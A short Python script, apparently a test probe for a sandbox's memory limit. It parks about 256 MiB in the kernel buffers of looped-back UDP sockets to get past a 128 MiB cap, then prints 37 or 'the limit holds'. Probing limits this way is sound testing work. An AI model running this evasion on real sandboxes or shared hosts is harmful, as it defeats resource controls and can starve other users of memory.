# Attack on stdin_stdout (memory limit): keeps 256 MiB in the buffers of UDP sockets under a limit of 128.
import socket
sent, kept = 0, []
try:
    while sent < 400 << 20:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 24)
        s.bind(("127.0.0.1", 0))
        s.setblocking(False)
        for i in range(s.getsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF) // 60000):
            sent += s.sendto(bytes(60000), s.getsockname())
        kept.append(s)
except OSError:
    pass
held = 0
for s in kept:
    try:
        while True:
            held += len(s.recv(65536))
    except BlockingIOError:
        pass
print(37 if held >= 256 << 20 else "the limit holds")
